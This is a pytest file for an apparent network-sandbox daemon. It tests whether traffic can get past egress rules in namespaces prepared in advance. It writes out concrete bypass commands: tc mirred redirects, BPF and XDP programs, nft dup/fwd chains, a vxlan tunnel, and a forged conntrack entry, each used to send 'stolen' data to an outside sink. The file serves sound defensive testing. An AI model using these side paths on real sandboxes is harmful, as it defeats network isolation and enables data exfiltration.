"""Networks that were prepared before they are attached: by somebody who had CAP_NET_ADMIN there once, and is gone.

What such a somebody leaves needs no process to go on, and no privilege to be used. Each way is tried three times: where it
is accepted, which shows whether it gets past the rules; where it is not, which refuses the network and says what to remove;
and after that has been removed, when nothing of it is left.
"""

from __future__ import annotations

import re
import subprocess
from dataclasses import dataclass
from pathlib import Path

import pytest

from lab import plan
from lab.daemon import Daemon, Sandbox, attachment
from lab.internet import Internet
from lab.namespaces import Namespace
from lab.sandgate import allowing

PREPARE = Path(__file__).parent / "attacks" / "prepare_network.py"
INSIDE4, OUTSIDE4, OUTSIDE6 = "10.78.0.2", "10.78.0.1", "fd78::1"
"""The ends of the box's link, and the outer one over IPv6."""
HERE4, HERE6 = "10.99.99.99", "fd99:99::99"
"""Addresses of the box's own: what is sent there stays inside, so that the rules have nothing against it."""
NOWHERE4 = "203.0.113.66"
"""An address that a route keeps inside."""
STOLEN = "stolen-by-a-side-path"
MIRRED = "action mirred egress redirect dev eth0"

SEND = """\
import socket, sys
family = socket.AF_INET6 if ":" in sys.argv[1] else socket.AF_INET
for port in (4444, 4445):
    with socket.socket(family, socket.SOCK_DGRAM) as sender:
        try: sender.sendto(sys.argv[2].encode(), (sys.argv[1], port))
        except OSError as error: print(error)
"""


@dataclass(frozen=True)
class Way:
    """What is left in a network, and how it is used."""

    words: str
    script: str
    """What prepares it, for a shell; $PREPARE is the program that does what no tool does."""
    found: str
    """What the refusal says."""
    target: str = HERE4
    """Where a program without any privilege sends to then."""
    passes_rules: bool = True
    """Whether it leaves although the rules are in force."""


WAYS = {
    "tc egress": Way(
        "a filter of tc on the loopback that redirects what leaves by it",
        f"tc qdisc add dev lo clsact; tc filter add dev lo egress protocol ip u32 match ip dst {HERE4} {MIRRED}",
        "queueing discipline clsact on lo",
    ),
    "tc egress, IPv6": Way(
        "a filter of tc on the loopback that redirects what leaves by it, over IPv6",
        f"tc qdisc add dev lo clsact; tc filter add dev lo egress protocol ipv6 u32 match ip6 dst {HERE6} {MIRRED}",
        "queueing discipline clsact on lo",
        HERE6,
    ),
    "tc ingress": Way(
        "a filter of tc on the loopback that redirects what arrives by it",
        f"tc qdisc add dev lo ingress; tc filter add dev lo ingress protocol ip u32 match ip dst {HERE4} {MIRRED}",
        "queueing discipline ingress on lo",
    ),
    "tc mirror": Way(
        "a filter of tc on the loopback that mirrors what leaves by it",
        "tc qdisc add dev lo clsact; "
        f"tc filter add dev lo egress protocol ip u32 match ip dst {HERE4} action mirred egress mirror dev eth0",
        "queueing discipline clsact on lo",
    ),
    "tc class": Way(
        "a filter of a classful queueing discipline on the loopback",
        "tc qdisc add dev lo root handle 1: htb default 1; tc class add dev lo parent 1: classid 1:1 htb rate 1gbit; "
        f"tc filter add dev lo parent 1: protocol ip u32 match ip dst {HERE4} {MIRRED}",
        "queueing discipline htb on lo",
    ),
    "tcx egress": Way(
        "a BPF program at the loopback's tcx egress",
        f"$PREPARE tcx lo egress {HERE4} eth0",
        "a BPF program at tcx egress of lo",
    ),
    "tcx ingress": Way(
        "a BPF program at the loopback's tcx ingress",
        f"$PREPARE tcx lo ingress {HERE4} eth0",
        "a BPF program at tcx ingress of lo",
    ),
    "XDP": Way("an XDP program on the loopback", f"$PREPARE xdp lo {HERE4} eth0", "an XDP program on lo"),
    "route, BPF": Way(
        "a route by the loopback whose packets a BPF program is given",
        f"$PREPARE route {NOWHERE4}/32 lo eth0",
        f"a route to {NOWHERE4}/32 with encapsulation bpf",
        NOWHERE4,
    ),
    "route, segments": Way(
        "a route by the loopback that wraps packets for a segment outside",
        f"ip -6 route add local 2001:db8:dead::/64 encap seg6 mode encap segs {plan.SINK6} dev lo",
        "a route to 2001:db8:dead::/64 with encapsulation seg6",
        "2001:db8:dead::66",
    ),
    "another table": Way(
        "a chain of another table that gives packets another address, and another route, after the rules",
        'nft "table ip other { chain c { type route hook output priority 10; '
        f'ip daddr {HERE4} ip daddr set {plan.SINK4}; }}; }}"',
        "with payload set",
    ),
    "marks": Way(
        "a chain of another table that marks packets after the rules, and a table of routes for the mark",
        f"ip rule add preference 1 fwmark 5 lookup 100; ip route add {HERE4} via {OUTSIDE4} table 100; "
        "ip rule add preference 2 lookup local; ip rule del preference 0; "
        'nft "table ip other { chain c { type route hook output priority 10; meta mark set 5; }; }"',
        "with meta set",
    ),
    "forward": Way(
        "a chain of the loopback that forwards what arrives to another device",
        'nft "table netdev other { chain c { type filter hook ingress device lo priority 0; '
        f'ip daddr {HERE4} fwd to eth0; }}; }}"',
        "with fwd",
    ),
    "duplicate": Way(
        "a chain of the loopback that copies what leaves to another device",
        'nft "table netdev other { chain c { type filter hook egress device lo priority 0; '
        f'ip daddr {HERE4} dup to eth0; }}; }}"',
        "with dup",
    ),
    "TEE": Way(
        "an old rule of iptables that copies packets to another host",
        f"iptables-legacy -t mangle -A POSTROUTING -d {HERE4} -j TEE --gateway {OUTSIDE4}",
        "a rule of iptables-legacy in table mangle with target TEE",
        passes_rules=False,
    ),
    "port": Way(
        "a bridge that the link outside is a port of",
        "ip link add br0 type bridge; ip address flush dev eth0; ip link set eth0 master br0; "
        f"ip address add {INSIDE4}/30 dev br0; ip link set br0 up; ip route add default via {OUTSIDE4}",
        "device eth0 as a port of br0",
        plan.SINK4,
        passes_rules=False,
    ),
    "device on a device": Way(
        "a device that stands on the link outside and has an address of its own",
        "ip link add mv0 link eth0 type macvlan mode bridge; ip address add 10.78.0.3/32 dev mv0; ip link set mv0 up; "
        f"ip route add {plan.SINK4} dev mv0; ip neigh add {plan.SINK4} dev mv0 lladdr 02:00:00:00:00:01",
        "device mv0, made of eth0 in the same network",
        plan.SINK4,
        passes_rules=False,
    ),
    "tunnel": Way(
        "a tunnel to a host outside",
        f"ip link add vx0 type vxlan id 7 remote {plan.SINK4} dstport 4789 dev eth0; ip link set vx0 up; "
        f"ip route add {NOWHERE4} dev vx0; ip neigh add {NOWHERE4} dev vx0 lladdr 02:00:00:00:00:01",
        "device vx0",
        NOWHERE4,
        passes_rules=False,
    ),
}


def prepare(box: Namespace, way: Way) -> None:
    for version, address in (("-4", f"{HERE4}/32"), ("-6", f"{HERE6}/128")):
        box.ip(version, "address", "add", address, "dev", "lo")
    for neighbour in (OUTSIDE4, OUTSIDE6):
        # What is sent is not to wait for an address: the capture ends soon.
        box.check("ping", "-c", "1", "-W", "3", neighbour)
    run(box, f"PREPARE='/usr/bin/python3 {PREPARE}'; set -e; {way.script}")


def run(box: Namespace, script: str) -> None:
    box.check("/bin/sh", "-c", script)


def gets_out(internet: Internet, box: Namespace, way: Way, sandbox: Sandbox | None = None) -> bool:
    """Whether a program without a capability sends something outside, the rules being in force or not."""
    bare = ["setpriv", "--bounding-set=-all", "--inh-caps=-all", "--reuid=65534", "--clear-groups"]
    with internet.capture(unenforced=True) as outside:
        box.check(*bare, "/usr/bin/python3", "-c", SEND, way.target, STOLEN)
    return STOLEN.encode() in outside.payload


@pytest.mark.parametrize(
    "way",
    [
        pytest.param(
            way,
            id=name,
            marks=pytest.mark.attack("T10a", f"has left from before it was attached {way.words}", stopped_by="start"),
        )
        for name, way in WAYS.items()
    ],
)
@pytest.mark.parametrize("case", ["accepted", "refused"])
def test_side_path(internet: Internet, daemon: Daemon, box: Namespace, way: Way, case: str) -> None:
    prepare(box, way)
    if case == "accepted":
        assert gets_out(internet, box, way), "without rules"
        sandbox = daemon.create(allowing(plan.ALLOWED), attachment=attachment(box, acceptSidePaths=True))
        assert sandbox.ask("GET").json["acceptedRisks"] == ["raw-sockets", "side-paths"]
        assert gets_out(internet, box, way) == way.passes_rules, "with rules alone"
        return
    request = {"id": "box", "attachment": attachment(box), "networkPolicy": allowing(plan.ALLOWED)}
    left = 10
    while (answer := daemon.request("POST", "/v1/sandboxes", request)).status != 201:
        message = answer.json["message"]
        assert answer.status == 422 and "acceptSidePaths" in message, answer
        assert left < 10 or way.found in message, answer
        assert "sandgate" not in box.check("nft", "list", "ruleset")
        # What it says is to be removed, and by what, is removed by that.
        remedy = message.split(": remove it (")[1].rpartition("), or say")[0]
        # A tool that the machine need not have.
        detach = re.fullmatch(r"bpftool net detach tcx_(\w+) dev lo", remedy)
        run(box, f"/usr/bin/python3 {PREPARE} free lo {detach[1]}" if detach else remedy)
        assert (left := left - 1) > 0, answer
    assert left < 10, "it was attached as it was"
    assert not gets_out(internet, box, way)


@pytest.mark.attack(
    "T10a T12",
    "has left an entry of connection tracking from before, by which what it sends looks like the answers of a connection that "
    "was let in",
    stopped_by="kernel",
)
def test_entry_from_before(internet: Internet, daemon: Daemon, box: Namespace) -> None:
    """Entries know the mark of connections from outside: it is a constant."""
    entry = ("entry", INSIDE4, "5555", plan.SINK4, "4444")

    def sends() -> bool:
        script = (
            "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
            f"s.bind(('{INSIDE4}', 5555)); s.sendto(b'{STOLEN}', ('{plan.SINK4}', 4444))"
        )
        with internet.capture(f"host {plan.SINK4}", unenforced=True) as outside:
            subprocess.run(box.command("/usr/bin/python3", "-c", script), capture_output=True, timeout=20)
        return len(outside) > 0

    box.check("/usr/bin/python3", PREPARE, *entry)
    assert sends(), "without rules"
    sandbox = daemon.create(allowing(plan.ALLOWED), attachment=attachment(box))
    assert not sends(), "the entry is forgotten"
    box.check("/usr/bin/python3", PREPARE, *entry)
    assert sends(), "what it is forgotten for"
    assert sandbox.ask("DELETE").status == 204
    daemon.create(allowing(plan.ALLOWED), attachment=attachment(box))
    assert not sends(), "the second one is forgotten as well"


@pytest.mark.attack(
    "T10a T6", "has left a table from before that is called as Sandgate's own, and has a chain more", stopped_by="start"
)
@pytest.mark.parametrize("change", ["a chain", "a hook"])
def test_table_that_is_called_as_ours(internet: Internet, daemon: Daemon, box: Namespace, change: str) -> None:
    """A table that an earlier daemon left is taken over; one that somebody changed since is not."""
    request = {"id": "box", "attachment": attachment(box), "networkPolicy": allowing(plan.ALLOWED)}
    assert daemon.request("POST", "/v1/sandboxes", request).status == 201
    daemon.end()
    for record in (daemon.directory / "state" / "sandboxes").iterdir():
        record.unlink()
    # nft knows no table's flag that keeps it; a table's own flags are the only ones after one tab.
    lines = box.check("nft", "list", "table", "inet", "sandgate").splitlines()
    text = "\n".join(line for line in lines if not line.startswith("\tflags"))
    at = "type filter hook postrouting priority 300; policy accept;"
    assert at in text
    if change == "a chain":
        mangle = f"type route hook output priority 10; ip daddr {HERE4} ip daddr set {plan.SINK4};"
        text += f"\ntable inet sandgate {{ chain more {{ {mangle} }}; }}"
    elif change == "a hook":
        text = text.replace(at, "")
    box.check("nft", "delete", "table", "inet", "sandgate")
    file = daemon.directory / "table.nft"
    file.write_text(text)
    box.check("nft", "-f", file)
    daemon.start()
    answer = daemon.request("POST", "/v1/sandboxes", request)
    assert answer.status == 422 and "table inet sandgate" in answer.json["message"], answer
    assert daemon.request("GET", "/v1/sandboxes/box").status == 404
    box.check("nft", "delete", "table", "inet", "sandgate")
    assert daemon.request("POST", "/v1/sandboxes", request).status == 201


@pytest.mark.attack(
    "T10a N3",
    "has left a rule from before that gives another server what is sent to an allowed one, where sockets are opened inside",
    stopped_by="start, kernel",
)
def test_translation_of_our_own_sockets(internet: Internet, daemon: Daemon, box: Namespace) -> None:
    """Where they are not, such a rule leads nowhere: what programs send is judged by where it leads."""
    rule = f"ip daddr {plan.SHARED4} tcp dport 443 dnat to {plan.DENIED4}"
    box.check("nft", f"table ip other {{ chain c {{ type nat hook output priority -50; {rule}; }}; }}")
    inside = attachment(box, upstreamInside=True)
    sandbox = daemon.create(allowing(plan.ALLOWED), attachment={**inside, "acceptSidePaths": True})
    # The rules alone hold it: what was translated leaves by no device. So nobody is served.
    assert not sandbox.reaches(plan.ALLOWED, "-4", "-k", "-m", "3") and internet.web.requests() == []
    assert sandbox.ask("DELETE").status == 204
    answer = daemon.request("POST", "/v1/sandboxes", {"attachment": inside})
    assert answer.status == 422 and "chain c in table ip other with nat" in answer.json["message"], answer
    internet.forget()
    sandbox = daemon.create(allowing(plan.ALLOWED), attachment=attachment(box))
    assert sandbox.reaches(plan.ALLOWED, "-4")
    assert not sandbox.reaches(plan.DENIED, "-4")
    assert internet.web.hosts() == {plan.ALLOWED}


HARMLESS = {
    "rules that let go or not": "iptables -A OUTPUT -p tcp --dport 25 -j REJECT; iptables -A OUTPUT -j LOG; "
    "ip6tables -A INPUT -p tcp --dport 25 -j DROP; "
    'nft "table inet firewall { chain c { type filter hook output priority -5; tcp dport 25 counter reject; }; }"',
    "old rules": "iptables-legacy -A OUTPUT -p tcp --dport 25 -j REJECT; ip6tables-legacy -A INPUT -p tcp --dport 25 -j DROP",
    "translation": "iptables -t nat -A OUTPUT -p tcp --dport 8080 -j REDIRECT --to-ports 15001; "
    "iptables -t nat -A POSTROUTING -s 10.1.0.0/16 -j MASQUERADE",
    "Docker's resolver": "iptables -t nat -N DOCKER_OUTPUT; iptables -t nat -A OUTPUT -d 127.0.0.11 -j DOCKER_OUTPUT; "
    "iptables -t nat -A DOCKER_OUTPUT -d 127.0.0.11 -p udp --dport 53 -j DNAT --to-destination 127.0.0.11:40000",
    "disciplines": "tc qdisc add dev eth0 root tbf rate 1gbit burst 1mb latency 50ms; tc qdisc add dev lo root pfifo",
    "devices": "ip link add nowhere type bridge; ip link set nowhere up; ip tuntap add tap0 mode tap; "
    "ip address add 10.5.0.1/24 dev eth0 label eth0:1",
    "routes": "ip rule add fwmark 9 lookup 77; ip route add blackhole 100.99.0.0/24; "
    "ip route add 10.9.0.0/16 nexthop via 10.78.0.1 nexthop via 10.78.0.1 dev eth0 weight 2",
}


@pytest.mark.honest("networks with what engines, their plugins and operators leave in them")
@pytest.mark.parametrize("upstream_inside", [False, True])
@pytest.mark.parametrize("what", HARMLESS)
def test_what_networks_have(internet: Internet, daemon: Daemon, box: Namespace, what: str, upstream_inside: bool) -> None:
    run(box, f"set -e; {HARMLESS[what]}")
    where = attachment(box, upstreamInside=upstream_inside)
    if what == "translation" and upstream_inside:
        answer = daemon.request("POST", "/v1/sandboxes", {"attachment": where})
        assert answer.status == 422 and "with target REDIRECT" in answer.json["message"], answer
        return
    sandbox = daemon.create(allowing(plan.ALLOWED), attachment=where)
    assert sandbox.ask("GET").json["acceptedRisks"] == ["raw-sockets"]
    assert sandbox.reaches(plan.ALLOWED) and not sandbox.reaches(plan.DENIED)
